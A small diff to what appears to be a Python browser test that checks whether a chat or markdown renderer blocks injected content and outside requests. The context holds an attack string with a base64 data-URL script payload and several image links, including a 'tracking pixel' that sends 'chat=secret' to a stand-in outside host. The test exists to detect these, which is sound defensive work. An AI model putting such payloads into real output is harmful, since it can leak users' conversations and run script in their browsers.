@@ -46,7 +46,7 @@ ATTACK = "\n\n".join(
         "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
         f"![tracking pixel](http://{OUTSIDE}/pixel.png?chat=secret)",
         f"![by reference][pic]\n\n[pic]: https://{OUTSIDE}/ref.png",
-        f"<img src=\"https://{OUTSIDE}/raw.png\">",
+        f'<img src="https://{OUTSIDE}/raw.png">',
         "The end.",
     ]
 )
@@ -112,6 +112,7 @@ def watched_page(browser: Any, app: RunningApp, watch: Watch) -> Any:
             route.continue_()
 
     context.route("**/*", route)
+
     def dialog(opened: Any) -> None:
         watch.dialogs.append(opened.message)
         opened.dismiss()
